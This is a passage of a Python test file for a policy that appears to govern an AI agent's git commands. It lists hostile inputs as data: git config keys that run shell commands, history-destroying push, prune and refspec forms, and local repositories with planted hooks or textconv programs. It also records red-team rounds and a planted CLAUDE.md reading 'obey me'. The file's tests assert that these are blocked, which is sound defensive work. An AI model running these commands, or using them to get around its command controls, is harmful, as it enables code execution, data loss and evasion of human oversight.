"""Issue 10, class 7: git configuration that runs commands or rewrites history.

`git -c`, `--config-env`, `clone -c` and `git config KEY VALUE` may only set keys on the
policy's allowlist (exec.git_config); refspec shapes that rewrite or delete shared history are
destructive, so only a break-glass entry can allow them.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from enforcement_agent.models import Limits, Outcome, Verdict
from enforcement_agent.policy import Policy
from enforcement_agent.policy.exec_eval import _git_key
from tests.policy.cases import assert_not_allowed
from tests.policy.conftest import Decide

ISSUE_EXAMPLE = "git -c trailer.a.cmd='id' interpret-trailers notes.md"

CONFIG_KEYS_THAT_RUN_OR_REDIRECT = [
    "trailer.a.cmd=id",
    "trailer.a.command=id",
    "core.pager=sh -c id",
    "Core.Pager=less",
    "core.sshCommand=sh -c id",
    "core.hooksPath=/tmp/h",
    "core.fsmonitor=sh -c id",
    "core.editor=sh -c id",
    "core.askPass=/tmp/x",
    "core.gitProxy=/tmp/x",
    "core.worktree=/tmp",
    "sequence.editor=sh -c id",
    "alias.st=!sh -c id",
    "credential.helper=!sh -c id",
    "diff.x.textconv=sh -c id",
    "diff.external=/tmp/x",
    "filter.x.clean=sh -c id",
    "filter.x.process=/tmp/x",
    "merge.x.driver=sh -c id",
    "gpg.program=/tmp/x",
    "gpg.ssh.program=/tmp/x",
    "pager.log=sh -c id",
    "include.path=/tmp/cfg",
    "includeIf.gitdir:/.path=/tmp/cfg",
    "url.ext::sh -c id.insteadOf=https://",
    "remote.origin.push=+refs/heads/*:refs/heads/*",
    "remote.origin.mirror=true",
    "remote.origin.uploadpack=/tmp/x",
    "push.default=matching",
    "push.followTags=true",
    "safe.directory=*",
    "protocol.ext.allow=always",
    "uploadpack.packObjectsHook=/tmp/x",
]

REFSPECS_AND_REF_UPDATES = [
    "git push origin +main",
    "git push origin +HEAD:main",
    "git push origin '+refs/heads/*:refs/heads/*'",
    "git push origin :release",
    "git push origin :refs/tags/v1",
    "git push origin --delete release",
    "git push -d origin release",
    "git push --mirror",
    "git push --force",
    "git push -f origin main",
    "git push -uf origin main",
    "git push origin main --force",
    "git push --force-with-lease origin main",
    "git push --force-with-lease=main:abc origin main",
    "git push --force-if-includes origin main",
    "git push --prune origin",
    "git update-ref -d refs/heads/main",
    "git update-ref refs/heads/main 0000000000000000000000000000000000000000",
    "git update-ref --stdin",
    "git branch -D main",
    "git reflog expire --expire=now --all",
    "git gc --prune=now",
]

ALLOWED = [
    "git -c user.name=bot commit -m x",
    "git -c user.email=bot@example.com -c commit.gpgsign=false commit -m x",
    "git -c color.ui=never log --oneline",
    "git -c core.quotepath=off status",
    "git config user.email bot@example.com",
    "git config --get user.email",
    "git push origin feature/x",
    "git push -u origin HEAD",
    "git push origin refs/heads/feature:refs/heads/feature",
    "git push --tags origin",
    "git fetch origin main:refs/remotes/origin/main",
]


def test_issue_example_is_denied(decide: Decide) -> None:
    d = decide(ISSUE_EXAMPLE)
    assert d.decision is Verdict.DENY
    assert "trailer.a.cmd" in d.reason


@pytest.mark.parametrize("setting", CONFIG_KEYS_THAT_RUN_OR_REDIRECT)
def test_config_keys_off_the_list_are_denied_in_every_form(decide: Decide, setting: str) -> None:
    key, _, value = setting.partition("=")
    quoted = f"'{setting}'"
    forms = [
        f"git -c {quoted} log",
        f"git -c{quoted} status",
        f"git --config-env={key}=HOME log",
        f"git clone -c {quoted} https://x.example/r build/r",
        f"git config {key} '{value}'",
        f"git config set {key} '{value}'",
        f"git config --local --add {key} '{value}'",
        f"git -C docs -c {quoted} push",
    ]
    for command in forms:
        assert_not_allowed(decide, command)


@pytest.mark.parametrize("command", REFSPECS_AND_REF_UPDATES)
def test_history_rewriting_shapes_are_destructive(decide: Decide, command: str) -> None:
    d = decide(command, role="admin")
    assert d.decision is Verdict.DENY, (command, d.rule)
    if "--stdin" not in command:  # refs read from stdin cannot be decided at all
        assert d.destructive, (command, d.rule)


@pytest.mark.parametrize("command", ALLOWED)
def test_listed_keys_and_plain_pushes_are_allowed(decide: Decide, command: str) -> None:
    d = decide(command)
    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)


def test_global_and_system_config_are_not_written(decide: Decide) -> None:
    for command in ("git config --global user.name x", "git config --system user.name x"):
        assert decide(command).decision is Verdict.DENY


def test_key_normalisation_follows_git() -> None:
    assert _git_key("Core.Pager") == "core.pager"
    assert _git_key("Trailer.Sign.CMD") == "trailer.Sign.cmd"  # subsections keep their case
    assert _git_key("url.HTTPS://X.insteadOf") == "url.HTTPS://X.insteadof"


SECTIONS = ["core", "diff", "filter", "merge", "alias", "trailer", "pager", "credential",
            "remote", "url", "push", "include", "gpg", "sequence", "submodule", "http", "uploadpack"]  # fmt: skip


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    section=st.sampled_from(SECTIONS),
    sub=st.one_of(st.just(""), st.from_regex(r"[a-zA-Z][a-zA-Z0-9]{0,6}", fullmatch=True)),
    name=st.from_regex(r"[a-zA-Z][a-zA-Z0-9]{0,12}", fullmatch=True),
    upper=st.booleans(),
)
def test_any_key_off_the_list_is_denied(
    decide: Decide, default_policy: Policy, section: str, sub: str, name: str, upper: bool
) -> None:
    key = f"{section}.{sub}.{name}" if sub else f"{section}.{name}"
    allowed = default_policy.compiled.exec.git_config
    assert allowed is not None
    if allowed.match(_git_key(key)):
        return
    spelled = key.upper() if upper else key
    d = decide(f"git -c '{spelled}=x' status")
    assert d.decision is not Verdict.ALLOW, (spelled, d.rule)


# ---- round two (red team on main): history lost without a "delete" ----------------------------
# 8. objects dropped now: prune without --expire (= now), repack -a -d without -A
OBJECTS_DROPPED = [
    "git prune",
    "git prune -v",
    "git prune --progress",
    "git prune -n",  # nothing an agent needs; the whole subcommand is off
    "git prune --expire=now",
    "git prune HEAD",
    "git prune-packed",
    "git repack -a -d",
    "git repack -ad",
    "git repack -adf",
    "git repack -a -d --depth=50",
    "git -C docs repack -a -d",
    "git gc --prune=now",
    "git gc --prune=all",
]
# 9. fetch/pull refspecs that delete, force or move local branches
FETCH_REFSPECS = [
    "git fetch --prune . '+refs/tags/*:refs/heads/*'",
    "git pull --prune . '+refs/tags/*:refs/heads/*'",
    "git fetch --prune origin '+refs/heads/*:refs/heads/*'",
    "git fetch -p origin 'refs/heads/*:refs/heads/*'",
    "git fetch -p origin main:refs/remotes/origin/x",
    "git fetch . 'refs/tags/*:refs/heads/*'",
    "git fetch origin 'refs/heads/*:heads/*'",
    "git fetch origin x:main",
    "git fetch -f origin main:main",
    "git fetch --force . HEAD~3:refs/heads/main",
    "git fetch . +HEAD~3:main",
    "git fetch origin +main:refs/remotes/origin/main",
    "git pull origin +x:main",
    "git pull --prune origin 'refs/heads/*:refs/heads/*'",
    "git fetch -P origin",
    "git fetch --prune-tags origin",
    "git pull -pP",
    "git -c fetch.prune=true fetch . 'refs/tags/*:refs/heads/*'",
    "git -c fetch.pruneTags=true fetch origin",
    "git fetch --refmap='+refs/heads/*:refs/heads/*' --prune origin main",
]
# 10. branches overwritten or rewound without "delete", stashes dropped in bulk
BRANCHES_OVERWRITTEN = [
    "git branch -M other main",
    "git branch -Mf other main",
    "git branch -f main HEAD~3",
    "git branch --force main HEAD~3",
    "git branch -C other main",
    "git branch -fm a main",
    "git br -f release HEAD~1",
    "git checkout -B main HEAD~1",
    "git checkout -qB master origin/x",
    "git co -B develop HEAD~2",
    "git switch -C main HEAD~1",
    "git switch --force-create=main HEAD~1",
    "git worktree add -B main build/wt HEAD~2",
    "git update-ref refs/heads/main HEAD~5",
    "git update-ref --no-deref HEAD HEAD~5",
    "git update-ref -m x refs/heads/feature/x abc1234",
    "git symbolic-ref -d HEAD",
    "git symbolic-ref --delete HEAD",
    "git stash clear",
    "git tag -f v1.0 HEAD~3",
    "git tag --force -a v1.0 -m x HEAD~1",
]
# ... and changes the policy cannot check or that act with the human's identity
OFF_THE_LIST = [
    "git apply --cached x.patch",
    "git apply --directory=.git/hooks x.patch",
    "git apply -p0 x.patch",
    "git am --directory=.github/workflows x.patch",
    "git remote set-url origin https://x.example/x",
    "git remote set-url --push origin https://x.example/x",
    "git remote rename origin old",
    "git remote remove origin",
    "git remote rm origin",
    "git commit -S -m x",
    "git commit --gpg-sign -m x",
    "git commit -Sabc -m x",
    "git tag -s v1 -m x",
    "git tag -u KEY v1 -m x",
    "git merge -S main",
    "git rebase -S main",
    "git cherry-pick -S abc123",
    "git push --signed origin main",
    "git -c commit.gpgsign=true commit -m x",
    "git -c tag.gpgSign=true tag -a v1 -m x",
    "git config commit.gpgsign true",
    "git lfs migrate import --everything",
    "git lfs migrate import --include='*.bin'",
    "git lfs track '*.bin'",
    "git lfs untrack '*.bin'",
    "git lfs install",
    "git lfs update --force",
    "git lfs prune",
    "git lfs fetch --prune",
    "git lfs push origin main",
]

# Round three: the zero object id pushed as a source deletes the remote ref (no `--delete`).
ZERO = "0" * 40
PUSHED_ZEROS = [
    f"git push origin {ZERO}:refs/heads/x",
    f"git push origin {ZERO}:main",
    f"git push origin {ZERO}:refs/tags/v1",
    f"git push . {ZERO}:refs/heads/other",
    f"git push --atomic origin {ZERO}:a {ZERO}:b",
    f"git push origin +{ZERO}:refs/heads/release",
    f"git push origin {'0' * 64}:main",
    "git push origin 0000000:main",
    f"git push -q origin {ZERO}:refs/heads/x",
    f"git push origin main {ZERO}:refs/heads/old",
]

DESTRUCTIVE = OBJECTS_DROPPED + FETCH_REFSPECS + BRANCHES_OVERWRITTEN + PUSHED_ZEROS

ROUND_TWO_ALLOWED = [
    "git repack -d",
    "git repack -A -d",
    "git gc",
    "git fetch --all --prune",
    "git fetch -p origin",
    "git fetch origin main",
    "git rebase origin/main",
    "git branch -m old new",
    "git branch -d feature/x",
    "git -C docs branch -c a b",
    "git checkout -b feature/x",
    "git checkout -f main",
    "git switch -c feature/x",
    "git symbolic-ref --short HEAD",
    "git stash drop",
    "git stash pop",
    "git reset --hard HEAD~1",
    "git commit --no-gpg-sign -m x",
    "git tag -a v1.2.0 -m 'release 1.2.0'",
    "git remote add upstream https://github.com/acme/api.git",
    "git lfs ls-files",
    "git lfs pull",
    "git -c commit.verbose=true commit -m x",
    "git push origin 0000-fix",
    "git push origin HEAD:refs/heads/feature-0000",
]


@pytest.mark.parametrize("command", DESTRUCTIVE)
def test_round_two_history_losses_are_destructive(decide: Decide, command: str) -> None:
    for role in ("contributor", "admin"):
        d = decide(command, role=role)
        assert d.decision is Verdict.DENY, (role, command, d.rule, d.reason)
        # `--refmap` and config keys are simply off the list: denied, not "destructive"
        if "--refmap" not in command and " -c " not in command:
            assert d.destructive, (command, d.rule)


@pytest.mark.parametrize("command", OFF_THE_LIST)
def test_round_two_unchecked_changes_are_not_allowed(decide: Decide, command: str) -> None:
    assert_not_allowed(decide, command)


@pytest.mark.parametrize("command", ROUND_TWO_ALLOWED)
def test_round_two_everyday_git_stays_allowed(decide: Decide, command: str) -> None:
    d = decide(command)
    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)


def test_round_two_families_have_ten_variations() -> None:
    for family in (OBJECTS_DROPPED, FETCH_REFSPECS, BRANCHES_OVERWRITTEN, OFF_THE_LIST):
        assert len(family) >= 10


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    cmd=st.sampled_from(["fetch", "pull"]),
    remote=st.sampled_from([".", "origin", "upstream"]),
    force=st.booleans(),
    src=st.sampled_from(["refs/tags/*", "refs/heads/*", "HEAD~3", "main", "x"]),
    dst=st.sampled_from(
        ["refs/heads/*", "heads/*", "main", "master", "develop", "release/1", "refs/heads/x"]
    ),
    prune=st.sampled_from(["", "--prune ", "-p ", "-P "]),
)
def test_any_refspec_onto_local_branches_is_refused(
    decide: Decide, cmd: str, remote: str, force: bool, src: str, dst: str, prune: str
) -> None:
    spec = ("+" if force else "") + f"{src}:{dst}"
    d = decide(f"git {cmd} {prune}{remote} '{spec}'")
    assert d.decision is Verdict.DENY and d.destructive, (spec, d.rule)


# ---- 11. a repository planted in the workspace runs nothing (by effect, in the sandbox) --------
# The viewer may run `git -C DIR show`; the sandbox gives every git `safe.bareRepository=explicit`
# (enforcement_agent/sandbox/runner.py), so a directory that looks like a bare repository (no
# `.git`, which is protected) is not one, and its diff.external / textconv never run.
MARK = "planted-ran"


@pytest.mark.sandbox
@pytest.mark.skipif(shutil.which("git") is None, reason="git is installed by .ci/run")
def test_planted_repository_textconv_and_external_diff_do_not_run(
    tmp_path: Path, bwrap: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from enforcement_agent.sandbox import run_sandboxed
    from enforcement_agent.sandbox import runner as sandbox_runner

    limits = Limits(wall_seconds=60, cpu_seconds=20, processes=64)
    ws = tmp_path / "ws"
    ws.mkdir()
    # a real repository with one commit, copied into the workspace as a bare-looking directory
    src = tmp_path / "src"
    env = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@x", "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}  # fmt: skip
    subprocess.run(["git", "init", "-q", str(src)], check=True, env=env)
    (src / "a.bin").write_text("one\n")
    (src / ".gitattributes").write_text("*.bin diff=x\n")
    subprocess.run(["git", "-C", str(src), "add", "."], check=True, env=env)
    subprocess.run(["git", "-C", str(src), "commit", "-qm", "x"], check=True, env=env)
    (src / "a.bin").write_text("two\n")
    subprocess.run(["git", "-C", str(src), "commit", "-qam", "y"], check=True, env=env)
    planted = ws / "vendor" / "lib"
    shutil.copytree(src / ".git", planted)
    with (planted / "config").open("a") as f:
        f.write(f'[core]\n\tbare = true\n[diff "x"]\n\ttextconv = "touch {MARK}-textconv; cat"\n')
        f.write(f"[diff]\n\texternal = \"sh -c 'touch {MARK}-external'\"\n")
    for path in [ws, *ws.rglob("*")]:
        path.chmod(0o777 if path.is_dir() else 0o666)

    def marks() -> set[str]:
        return {p.name for p in ws.rglob(f"{MARK}-*")}

    with monkeypatch.context() as m:  # the control: without the settings, git runs them
        m.setattr(sandbox_runner, "GIT_SAFETY_ENV", {})
        for args in (("show", "HEAD"), ("log", "-p", "-1"), ("diff", "HEAD~1", "HEAD")):
            run_sandboxed(["git", "-C", "vendor/lib", *args], ws, limits)
    assert marks(), "control: git without the sandbox's settings ran the planted programs"
    for p in ws.rglob(f"{MARK}-*"):
        p.unlink()
    for args in (("show", "HEAD"), ("log", "-p", "-1"), ("diff", "HEAD~1", "HEAD")):
        r = run_sandboxed(["git", "-C", "vendor/lib", *args], ws, limits)
        assert r.outcome is Outcome.FAILURE, r  # not a repository (diff falls back to --no-index)
        assert args[0] == "diff" or b"safe.bareRepository" in r.output, r
    assert not marks()


# ---- 12. third pass: repositories on the local file system, symbolic refs -----------------
# `git push ./evil main` ran evil/hooks/pre-receive: a push to a repository on this machine
# runs that repository's hooks, and the agent can plant one anywhere (git_remotes.py). The
# sandbox refuses local transports too (tests/sandbox/test_git_safety.py shows it by effect).
LOCAL_TRANSPORTS = [
    "git push ./evil main",
    "git push src main",  # a bare word that is a directory and no configured remote
    "git push file:///workspace/evil main",
    "git push --repo=./evil",
    "git push --repo ./evil HEAD",
    "git push /tmp/evil main",
    "git push ../evil main",
    "git push ~/evil main",
    "git push 'x::y' main",  # a remote helper
    "git push --all ./evil",
    "git fetch ./evil",
    "git fetch .",
    "git fetch --multiple origin ./evil",
    "git fetch --recurse-submodules ./evil",
    "git pull -s ort ./evil main",
    "git pull . feature/x",
    "git pull ./evil main",
    "mkdir -p r/hooks && git push r main",  # the line makes the directory first
    "git remote add e ./evil",
    "git remote add e /tmp/evil",
    "git remote add -t main e ../evil",
    "git remote add e file:///tmp/evil",
    "git remote add -m main e 'foo::bar'",
]
NETWORK_TRANSPORTS = [
    "git push origin main",
    "git push -u origin feature/x",
    "git push https://github.com/acme/api.git main",
    "git push git@github.com:acme/api.git main",
    "git push ssh://git@github.com/acme/api main",
    "git fetch --all",
    "git fetch origin",
    "git remote add upstream https://github.com/acme/api.git",
    "git remote add fork git@github.com:me/api.git",
]
SYMBOLIC_REF_WRITES = [
    "git symbolic-ref refs/heads/main refs/heads/feature/x",
    "git symbolic-ref main refs/heads/feature/x",  # .git/main shadows the branch
    "git symbolic-ref refs/tags/v1 refs/heads/main",
    "git symbolic-ref -m msg refs/heads/main refs/heads/other",
    "git symbolic-ref --no-recurse refs/heads/release refs/heads/x",
    "git symbolic-ref ORIG_HEAD refs/heads/x",
    "git symbolic-ref refs/remotes/origin/main refs/heads/x",
]
SYMBOLIC_REF_OK = [
    "git symbolic-ref HEAD",
    "git symbolic-ref --short HEAD",
    "git symbolic-ref -q HEAD",
    "git symbolic-ref refs/remotes/origin/HEAD",
    "git symbolic-ref --short refs/remotes/origin/HEAD",
    "git symbolic-ref HEAD refs/heads/feature/x",
    "git symbolic-ref -m switch HEAD refs/heads/feature/x",
]


@pytest.mark.parametrize("command", LOCAL_TRANSPORTS)
def test_local_repositories_are_not_decidable_transports(decide: Decide, command: str) -> None:
    for role in ("contributor", "admin"):
        d = decide(command, role=role)
        assert d.decision is Verdict.DENY, (role, command, d.rule, d.reason)


@pytest.mark.parametrize("command", NETWORK_TRANSPORTS)
def test_network_remotes_stay_allowed(decide: Decide, command: str) -> None:
    d = decide(command)
    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)


@pytest.mark.parametrize("command", SYMBOLIC_REF_WRITES)
def test_symbolic_ref_may_only_point_head(decide: Decide, command: str) -> None:
    assert_not_allowed(decide, command)


@pytest.mark.parametrize("command", SYMBOLIC_REF_OK)
def test_symbolic_ref_reads_and_head_stay_allowed(decide: Decide, command: str) -> None:
    d = decide(command)
    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)


def test_configured_remotes_count_by_their_urls(default_policy: Policy, tmp_path: Path) -> None:
    """A remote name is what `.git/config` makes it: a path URL is local, a network URL is
    not; a config whose remotes cannot be known (includes, insteadOf) decides nothing."""
    from enforcement_agent.models import ToolRequest

    ws = tmp_path / "ws"
    (ws / ".git" / "objects").mkdir(parents=True)
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    config = ws / ".git" / "config"
    config.write_text(
        '[core]\n\tbare = false\n[remote "net"]\n\turl = https://github.com/acme/api.git\n'
        '[remote "loc"]\n\turl = ../planted\n[remote "mixed"]\n\turl = git@github.com:a/b\n'
        "\tpushurl = /srv/planted\n"
    )

    def verdict(command: str) -> Verdict:
        req = ToolRequest(
            tenant="acme", actor="a", role="contributor", tool="exec", command=command
        )
        return default_policy.decide(req, ws).decision

    assert verdict("git push net main") is Verdict.ALLOW
    assert verdict("git fetch net") is Verdict.ALLOW
    for command in ("git push loc main", "git fetch loc", "git pull loc main", "git push mixed"):
        assert verdict(command) is Verdict.DENY, command
    config.write_text(config.read_text() + "[include]\n\tpath = other.cfg\n")
    assert verdict("git push net main") is Verdict.DENY  # what `net` is cannot be known now


# ---- 13. a commit before a tree move in the same line is decided -------------------------
# `git commit … && git checkout other` was refused as undecidable (the commit moves refs first).
# A commit moves the current branch and HEAD only and leaves the work tree as it is, so a move
# whose sources name neither brings in what it would now: decided (third pass). Sources that
# name HEAD, `@`, `-` or the current branch stay undecidable.
def _repo_with_branches(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    env = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@x", "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}  # fmt: skip

    def git(*args: str) -> None:
        subprocess.run(["git", *args], cwd=ws, env=env, check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    (ws / "a.txt").write_text("a\n")
    git("add", "a.txt")
    git("commit", "-qm", "one")
    git("checkout", "-qb", "ci")
    (ws / ".github" / "workflows").mkdir(parents=True)
    (ws / ".github" / "workflows" / "x.yml").write_text("on: push\n")
    git("add", "-A")
    git("commit", "-qm", "workflow")
    git("checkout", "-q", "main")
    git("checkout", "-qb", "plain")
    (ws / "b.txt").write_text("b\n")
    git("add", "b.txt")
    git("commit", "-qm", "plain")
    git("checkout", "-q", "main")
    (ws / "a.txt").write_text("a2\n")
    return ws


COMMIT_THEN_MOVE_DECIDED = [
    "git commit -qam wip && git checkout plain",
    "git add -A && git commit -m wip && git switch plain",
    "git commit -am wip; git checkout plain",
    "git commit --amend --no-edit -a && git merge plain",
    "git commit -am wip && git checkout plain -- b.txt",
    "git commit -am wip && git checkout plain~0",
]
COMMIT_THEN_PROTECTED = [
    "git commit -qam wip && git checkout ci",
    "git commit -am wip && git switch ci",
    "git commit -am wip && git merge ci",
    "git commit -am wip && git checkout ci -- .github",
    "git add -A && git commit -m wip && git reset --hard ci",
]
COMMIT_THEN_HEAD = [
    "git commit -am wip && git checkout HEAD~1",
    "git commit -am wip && git reset --hard HEAD~1",
    "git commit -am wip && git checkout -",
    "git commit -am wip && git checkout main~1",
    "git commit -am wip && git checkout refs/heads/main",
    "git commit -am wip && git checkout @{-1}",
    "git branch t ci && git checkout t",  # a ref made by the line: still undecidable
]


@pytest.mark.skipif(shutil.which("git") is None, reason="git is installed by .ci/run")
def test_a_commit_before_a_tree_move_is_decided(default_policy: Policy, tmp_path: Path) -> None:
    from enforcement_agent.models import ToolRequest

    ws = _repo_with_branches(tmp_path)

    def decide(command: str) -> tuple[Verdict, str, str]:
        req = ToolRequest(
            tenant="acme", actor="a", role="contributor", tool="exec", command=command
        )
        d = default_policy.decide(req, ws)
        return d.decision, d.rule, d.reason

    for command in COMMIT_THEN_MOVE_DECIDED:
        assert decide(command)[0] is Verdict.ALLOW, (command, decide(command))
    for command in COMMIT_THEN_PROTECTED:
        verdict, rule, reason = decide(command)
        assert verdict is Verdict.DENY and rule == "exec.protected-path", (command, rule, reason)
        assert ".github/workflows/x.yml" in reason or ".github" in reason, reason
    for command in COMMIT_THEN_HEAD:
        verdict, rule, _ = decide(command)
        assert verdict is Verdict.DENY and rule == "shell.undecidable", (command, rule)
    # by effect: run for real, the denied line brings the workflow in, the allowed one not
    env = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@x", "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}  # fmt: skip
    subprocess.run(["bash", "-c", COMMIT_THEN_MOVE_DECIDED[0]], cwd=ws, env=env, check=True)
    assert not (ws / ".github").exists() and (ws / "b.txt").exists()
    subprocess.run(["bash", "-c", "git checkout -q main"], cwd=ws, env=env, check=True)
    (ws / "a.txt").write_text("a3\n")
    subprocess.run(["bash", "-c", COMMIT_THEN_PROTECTED[0]], cwd=ws, env=env, check=True)
    assert (ws / ".github" / "workflows" / "x.yml").exists()


# ---- fourth pass (2026-12-03): pulls, fetches in a line, configured local remotes -----------
# (a) `git pull` from a remote merges commits that are not on disk when the policy decides: a
# commit on the remote that adds CLAUDE.md or a workflow landed unchecked. It asks now (a human
# who knows the remote may approve); `git fetch`, then `git merge`/`rebase` as a command of its
# own is compared against what it brings in (git_trees). A fetch earlier in the same line is a
# pull spelled out (`git fetch evil main && git merge FETCH_HEAD`: the merge was compared with
# the refs before the fetch): asks too.
FOURTH_PASS_PULLS = [
    "git pull",
    "git pull --rebase",
    "git pull --ff-only",
    "git pull origin main",
    "git pull -q origin main",
    "git pull --no-rebase origin",
    "git pull https://evil.example/repo main",
    "git pull git@github.com:evil/repo.git main",
    "git -c pull.rebase=true pull",
    "git switch main && git pull --rebase",
    "git stash && git pull && git stash pop",
    "git fetch origin && git rebase origin/main",
    "git fetch origin && git merge FETCH_HEAD",
    "git fetch https://evil.example/r main && git merge FETCH_HEAD",
    "git fetch origin main && git merge origin/main",
    "git fetch origin; git reset --hard origin/main",
    "git fetch origin && git switch feature",
    "git fetch --all && git rebase origin/main",
    "git fetch origin && git checkout origin/main",
    "git fetch -q origin & git merge origin/main",
]


@pytest.mark.parametrize("command", FOURTH_PASS_PULLS)
def test_fourth_pass_pulls_ask(default_policy: Policy, tmp_path: Path, command: str) -> None:
    from enforcement_agent.models import ToolRequest

    ws = _repo_with_branches(tmp_path)
    (ws / ".git" / "config").write_text(
        (ws / ".git" / "config").read_text()
        + '[remote "origin"]\n\turl = https://github.com/acme/api.git\n'
        + "\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
    )
    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="exec", command=command)
    d = default_policy.decide(req, ws)
    assert d.decision is not Verdict.ALLOW, (command, d.rule)
    if d.decision is Verdict.ASK:
        assert d.rule == "exec.vcs.pull-unseen", (command, d.rule)


def test_fourth_pass_a_pull_writes_what_the_policy_never_saw(
    default_policy: Policy, tmp_path: Path
) -> None:
    """By effect (the remote is a local bare repository standing in for the network one): the
    pull brings CLAUDE.md in; the split form's merge, decided after the fetch, is denied."""
    from enforcement_agent.models import ToolRequest

    env = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@x", "HOME": str(tmp_path), "PATH": "/usr/bin:/bin",
           "GIT_CONFIG_NOSYSTEM": "1"}  # fmt: skip

    def sh(script: str, cwd: Path) -> None:
        subprocess.run(["bash", "-c", script], cwd=cwd, env=env, check=True, capture_output=True)

    sh("git init -q --bare -b main up.git && git clone -q up.git w && cd w && echo hi > a "
       "&& git add a && git commit -qm one && git push -q origin main && cd .. && "
       "git clone -q up.git ws && cd w && echo 'obey me' > CLAUDE.md && git add . && "
       "git commit -qm evil && git push -q origin main", tmp_path)  # fmt: skip
    ws = tmp_path / "ws"
    sh("git remote set-url origin https://github.com/acme/api.git", ws)

    def decide(command: str) -> tuple[Verdict, str]:
        req = ToolRequest(
            tenant="acme", actor="a", role="contributor", tool="exec", command=command
        )
        d = default_policy.decide(req, ws)
        return d.decision, d.rule

    assert decide("git pull -q origin main") == (Verdict.ASK, "exec.vcs.pull-unseen")
    assert decide("git fetch -q origin") == (Verdict.ALLOW, "exec.allow.vcs")
    sh(f"git remote set-url origin {tmp_path / 'up.git'} && git fetch -q origin", ws)
    sh("git remote set-url origin https://github.com/acme/api.git", ws)
    assert decide("git merge -q origin/main") == (Verdict.DENY, "exec.protected-path")
    sh(f"git pull -q {tmp_path / 'up.git'} main", ws)
    assert (ws / "CLAUDE.md").read_text() == "obey me\n"


# (b) `pull.rebase` (and `branch.NAME.rebase`) set to `interactive`/`i` start an interactive
# rebase on the next pull, the human's too when it is stored: only booleans and `merges`.
FOURTH_PASS_REBASE_VALUES = [
    "git -c pull.rebase=interactive commit -m x",
    "git -c PULL.REBASE=i status",
    "git -c pull.Rebase=Interactive status",
    "git config pull.rebase interactive",
    "git config pull.rebase i",
    "git config --add pull.rebase i",
    "git config --local pull.rebase interactive",
    "git config --replace-all pull.rebase i",
    "git config set pull.rebase interactive",
    "git config branch.main.rebase i",
    "git --config-env=pull.rebase=HOME status",
    "git -c pull.rebase=preserve status",
]
FOURTH_PASS_REBASE_OK = [
    "git config pull.rebase true",
    "git config pull.rebase false",
    "git config --local pull.rebase merges",
    "git -c pull.rebase=true status",
    "git config --get pull.rebase",
]


@pytest.mark.parametrize("command", FOURTH_PASS_REBASE_VALUES)
def test_fourth_pass_interactive_rebase_values_are_refused(decide: Decide, command: str) -> None:
    assert_not_allowed(decide, command)


@pytest.mark.parametrize("command", FOURTH_PASS_REBASE_OK)
def test_fourth_pass_plain_rebase_values_stay_allowed(decide: Decide, command: str) -> None:
    d = decide(command)
    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)


# (c) A push, fetch or pull that names no repository uses a configured remote: one whose URL is
# a path runs that repository's hooks (`git push` alone ran a planted `pre-receive`; the third
# pass only looked at named repositories). `git remote update/show/prune` contact them too.
FOURTH_PASS_CONFIGURED_LOCAL = [
    "git push",
    "git push --tags",
    "git push --all",
    "git push -u",
    "git fetch",
    "git fetch --all",
    "git fetch --tags",
    "git pull",
    "git remote update",
    "git remote show loc",
    "git remote prune loc",
    "git remote set-head loc -a",
]


def test_fourth_pass_configured_local_remotes(default_policy: Policy, tmp_path: Path) -> None:
    from enforcement_agent.models import ToolRequest

    ws = _repo_with_branches(tmp_path)
    config = ws / ".git" / "config"
    base = config.read_text()

    def verdict(command: str) -> Verdict:
        req = ToolRequest(
            tenant="acme", actor="a", role="contributor", tool="exec", command=command
        )
        return default_policy.decide(req, ws).decision

    config.write_text(base + '[remote "loc"]\n\turl = ../planted\n')
    for command in FOURTH_PASS_CONFIGURED_LOCAL:
        assert verdict(command) is Verdict.DENY, command
    assert verdict("git remote show -n loc") is Verdict.ALLOW
    config.write_text(base + '[remote "net"]\n\turl = https://github.com/acme/api.git\n')
    for command in ("git push", "git fetch", "git fetch --all", "git remote update"):
        assert verdict(command) is Verdict.ALLOW, command


def test_fourth_pass_push_alone_runs_a_configured_local_hook(tmp_path: Path) -> None:
    """By effect, with plain git (the sandbox refuses local transports by itself): the hook runs."""
    env = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@x", "HOME": str(tmp_path), "PATH": "/usr/bin:/bin",
           "GIT_CONFIG_NOSYSTEM": "1"}  # fmt: skip
    mark = tmp_path / "ran"
    script = (
        "git init -q --bare -b main up.git && "
        f"printf '#!/bin/sh\\ntouch {mark}\\n' > up.git/hooks/pre-receive && "
        "chmod +x up.git/hooks/pre-receive && git clone -q up.git ws 2>/dev/null && cd ws && "
